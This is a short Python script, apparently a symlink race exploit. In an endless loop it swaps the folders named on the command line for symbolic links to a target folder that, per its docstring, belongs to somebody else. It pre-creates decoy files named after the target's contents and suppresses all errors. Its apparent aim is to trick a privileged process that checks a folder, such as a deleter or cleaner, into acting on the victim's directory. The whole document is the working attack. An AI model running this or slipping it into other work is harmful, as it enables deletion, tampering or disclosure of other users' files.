"""Swaps folders for links to one that belongs to somebody else, as fast as it can: `python3 swap-links.py TARGET FOLDER...`."""

import contextlib
import os
import sys


def main():
    target, *folders = sys.argv[1:]
    names = os.listdir(target)
    while True:
        for folder in folders:
            with contextlib.suppress(OSError):  # it was deleted in the middle
                os.makedirs(folder, exist_ok=True)
                for name in names:
                    with open(os.path.join(folder, name), "w"):
                        pass
            for _ in range(20):
                with contextlib.suppress(OSError):
                    os.rename(folder, f"{folder}.away")
                with contextlib.suppress(OSError):
                    os.symlink(target, folder)
                with contextlib.suppress(OSError):
                    os.unlink(folder)
                with contextlib.suppress(OSError):
                    os.rename(f"{folder}.away", folder)


if __name__ == "__main__":
    main()
